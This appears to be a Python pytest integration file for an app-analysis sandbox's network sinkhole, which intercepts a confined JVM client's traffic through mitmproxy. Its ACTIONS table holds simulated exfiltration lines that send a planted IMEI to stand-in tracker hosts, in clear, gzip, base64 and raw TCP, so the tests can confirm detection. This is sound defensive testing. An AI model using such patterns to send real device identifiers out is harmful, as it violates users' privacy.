"""The real sinkhole: a JVM behind the walls of an app, a real mitmproxy, and what becomes of every connection."""

from __future__ import annotations

import base64
import gzip
import subprocess
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from tests.integration.confined_java import compiled, confined_class, toolkit_or_skip
from workers.dynamic.sinkhole.flow import Flow, FlowKind
from workers.dynamic.sinkhole.session import Session, Sinkhole
from workers.dynamic.toolkit import Toolkit
from workers.scratch import scratch

IMEI = b"861234567890123"
CLIENT = "apkfarm.sandbox.host.NetClient"


class Planted:
    """Knows one planted value, in clear and in base64."""

    def find(self, content: bytes | str) -> Sequence[str]:
        """Return `imei` if it is there."""
        raw = content if isinstance(content, bytes) else content.encode()
        return ("imei",) if IMEI in raw or base64.b64encode(IMEI) in raw else ()


def _body(content: bytes) -> str:
    """Return a body as the client takes it."""
    return base64.b64encode(content).decode()


ACTIONS = {
    "query": f"http GET http://api.tracker.cn/log?imei={IMEI.decode()}",
    "gzip": "http POST https://gzip.tracker.cn/a " + _body(gzip.compress(b'{"id":"' + IMEI + b'"}')),
    "base64": "http POST https://base64.tracker.cn/a " + _body(b"d=" + base64.b64encode(IMEI)),
    "harmless": "http POST https://harmless.tracker.cn/a " + _body(b"hello"),
    "address": "direct GET http://8.8.8.8/x",
    "picture": "http GET http://cdn.tracker.cn/banner.png",
    "canned": "http GET http://connectivitycheck.gstatic.com/generate_204",
    "raw": f"raw push.tracker.cn 5222 hello-{IMEI.decode()}",
    "tls": "tls mqtt.tracker.cn 8883 hello-in-tls",
    "listen": "listen smtp.tracker.cn 25",
    "timeout": "timeout slow.tracker.cn 25",
    "pinned": "pinned https://pinned.tracker.cn/a",
    "name": "name no.such.name.tracker.cn",
    "literal": "name 127.0.0.1",
    "self": "self",
    "authorities": "authorities",
    "udp": "udp 8.8.8.8 53",
    "channel": "channel 8.8.8.8 443",
    "devices": "devices",
}


@dataclass(frozen=True, kw_only=True, slots=True)
class Told:
    """What one run of the client has shown."""

    said: Mapping[str, str]
    """What the client says of each action."""
    flows: Sequence[Flow]
    """What the sinkhole says."""

    def flow(self, address: str) -> Flow:
        """Return the one flow to an address."""
        (found,) = [flow for flow in self.flows if flow.address == address]
        return found


@pytest.fixture(scope="module")
def toolkit() -> Toolkit:
    """Return what the sandbox runs on."""
    return toolkit_or_skip(sinkhole=True)


@pytest.fixture(scope="module")
def classes(toolkit: Toolkit, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of the compiled client."""
    return compiled(toolkit, "NetClient", tmp_path_factory.mktemp("client"))


@pytest.fixture(scope="module")
def sinkhole(toolkit: Toolkit) -> Iterator[Sinkhole]:
    """Yield a sinkhole that is closed after the tests."""
    with Sinkhole(toolkit) as opened:
        yield opened


def _run(toolkit: Toolkit, classes: Path, sinkhole: Sinkhole, session: Session, actions: Sequence[str]) -> list[str]:
    """Return what the client says of each action."""
    with scratch() as sink:
        sinkhole.trust(sink)
        session.share(sink)
        argv = confined_class(toolkit, classes, CLIENT, *actions, sink=sink)
        done = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=True)
    return [line.split("\t")[1] for line in done.stdout.splitlines()]


@pytest.fixture(scope="module")
def told(toolkit: Toolkit, classes: Path, sinkhole: Sinkhole) -> Told:
    """Return what came of all actions in one run."""
    with sinkhole.open(Planted()) as session:
        said = _run(toolkit, classes, sinkhole, session, list(ACTIONS.values()))
        flows = session.end()
        assert session.trouble == ""
        assert session.dropped == 0
    return Told(said=dict(zip(ACTIONS, said, strict=True)), flows=flows)


def test_only_loopback_is_in_the_namespace(told: Told) -> None:
    """No packet can leave: there is no device that it could leave by."""
    assert told.said["devices"] == "lo"


def test_a_planted_value_in_a_query_is_found(told: Told) -> None:
    """Clear HTTP by a name that does not exist: answered, told with its name, the value found in the path."""
    assert told.said["query"].startswith("200 ")
    flow = told.flow("api.tracker.cn")
    assert (FlowKind.HTTP, "http", "GET", 80) == (flow.kind, flow.scheme, flow.method, flow.port)
    assert flow.path == f"/log?imei={IMEI.decode()}"
    assert flow.canaries == ("imei",)


@pytest.mark.parametrize("how", ["gzip", "base64"])
def test_a_planted_value_in_the_body_of_https_is_found(told: Told, how: str) -> None:
    """The JVM trusts the sinkhole, and an encoded body is read."""
    assert told.said[how] == "200 application/json; charset=utf-8 {}"
    flow = told.flow(f"{how}.tracker.cn")
    assert ("https", "POST", 443) == (flow.scheme, flow.method, flow.port)
    assert flow.canaries == ("imei",)
    assert len(flow.body_sha256) == 64


def test_a_body_without_a_planted_value_is_accused_of_nothing(told: Told) -> None:
    """The twin of the requests above."""
    flow = told.flow("harmless.tracker.cn")
    assert flow.canaries == ()
    assert flow.body_bytes == 5


def test_an_app_that_goes_round_proxies_to_a_literal_address_ends_here_too(told: Told) -> None:
    """`Proxy.NO_PROXY` and an address that exists on the Internet."""
    assert told.said["address"].startswith("200 ")
    assert told.flow("8.8.8.8").path == "/x"


def test_answers_are_of_the_form_that_was_asked_for(told: Told) -> None:
    """A picture where a picture is asked for, and the table's row where there is one."""
    assert told.said["picture"].startswith("200 image/gif GIF89a")
    assert told.said["canned"].startswith("204 ")


def test_raw_tcp_is_told_with_its_bytes_and_ended(told: Told) -> None:
    """No protocol is known: the app's bytes are searched, and it reads the end of the stream."""
    assert told.said["raw"] == "answer 0"
    flow = told.flow("push.tracker.cn")
    assert (FlowKind.RAW, "tcp", 5222) == (flow.kind, flow.scheme, flow.port)
    assert flow.canaries == ("imei",)


def test_a_protocol_of_its_own_inside_tls_is_read(told: Told) -> None:
    """TLS is opened whatever it carries."""
    flow = told.flow("mqtt.tracker.cn")
    assert (FlowKind.RAW, "tls", len("hello-in-tls")) == (flow.kind, flow.scheme, flow.body_bytes)


def test_who_waits_for_a_greeting_is_not_kept_waiting(told: Told) -> None:
    """A connection without a byte is ended; the app's own time limit holds before that."""
    assert told.said["listen"] == "answer 0"
    assert told.flow("smtp.tracker.cn").kind is FlowKind.SILENT
    assert told.said["timeout"] == "java.net.SocketTimeoutException: Read timed out"


def test_pinning_is_told_as_a_refusal(told: Told) -> None:
    """An app that knows its server's certificate does not talk to the sinkhole."""
    assert told.said["pinned"].startswith("javax.net.ssl.SSLHandshakeException")
    flow = told.flow("pinned.tracker.cn")
    assert flow.kind is FlowKind.TLS
    assert flow.tls_refused


def test_any_name_has_a_reserved_address_and_an_address_stays_itself(told: Told) -> None:
    """Looked up by the JDK itself, as every constructor of its socket classes does."""
    assert told.said["name"].startswith("no.such.name.tracker.cn/198.18.")
    assert told.said["literal"] == "/127.0.0.1"


def test_an_app_may_talk_to_itself(told: Told) -> None:
    """Loopback is not taken away."""
    assert told.said["self"] == "42"


def test_the_phones_list_of_authorities_has_the_sinkhole_only(told: Told) -> None:
    """Android's key store and the default trust manager."""
    assert told.said["authorities"] == "1 1"


def test_what_is_no_stream_socket_meets_a_network_that_is_not_there(told: Told) -> None:
    """Datagrams and channels are not carried: they fail as on a phone without a network."""
    assert "java.net." in told.said["channel"]
    assert told.said["udp"].endswith("Network is unreachable")


def test_connections_have_the_numbers_of_the_sandboxs_events(told: Told) -> None:
    """Each connection has its own number, from 1."""
    numbers = {flow.connection for flow in told.flows}
    assert numbers == set(range(1, len(numbers) + 1))


def test_a_later_app_finds_the_sinkhole_running_and_sees_nothing_of_the_first(
    toolkit: Toolkit, classes: Path, sinkhole: Sinkhole, told: Told
) -> None:
    """Two sessions at a time, each with its own flows."""
    assert sinkhole.running
    with sinkhole.open(Planted()) as one, sinkhole.open(Planted()) as other:
        _run(toolkit, classes, sinkhole, one, ["http GET http://one.tracker.cn/"])
        _run(toolkit, classes, sinkhole, other, ["http GET http://other.tracker.cn/"])
        assert [flow.address for flow in one.flows()] == ["one.tracker.cn"]
        assert one.flows() == ()
        assert [flow.address for flow in other.end()] == ["other.tracker.cn"]


def test_an_app_without_connections_starts_nothing(toolkit: Toolkit, classes: Path) -> None:
    """The proxy is paid for by those who need it."""
    with Sinkhole(toolkit) as sinkhole:
        with sinkhole.open(Planted()) as session:
            assert _run(toolkit, classes, sinkhole, session, ["devices"]) == ["lo"]
            assert session.end() == ()
        assert not sinkhole.running


def test_a_lost_sinkhole_is_told_and_replaced(toolkit: Toolkit, classes: Path) -> None:
    """When mitmproxy dies the session says that its log is not complete; the next one gets a new process."""
    with Sinkhole(toolkit) as sinkhole:
        with sinkhole.open(Planted()) as session:
            _run(toolkit, classes, sinkhole, session, ["http GET http://one.tracker.cn/"])
            sinkhole.serve().kill()
            assert session.end() == ()
            assert session.trouble != ""
        with sinkhole.open(Planted()) as session:
            _run(toolkit, classes, sinkhole, session, ["http GET http://two.tracker.cn/"])
            assert [flow.address for flow in session.end()] == ["two.tracker.cn"]


def test_without_the_sinkhole_there_is_no_network_at_all(toolkit: Toolkit, classes: Path) -> None:
    """Names are answered, connections are refused, and the session says why."""
    with Sinkhole(replace(toolkit, sinkhole=None)) as sinkhole, sinkhole.open(Planted()) as session:
        assert session.network == "none"
        assert "make sandbox" in session.trouble
        said = _run(toolkit, classes, sinkhole, session, ["name api.tracker.cn", "raw api.tracker.cn 80 x"])
        assert said[0].startswith("api.tracker.cn/198.18.")
        assert said[1].startswith("java.net.")
        assert session.end() == ()
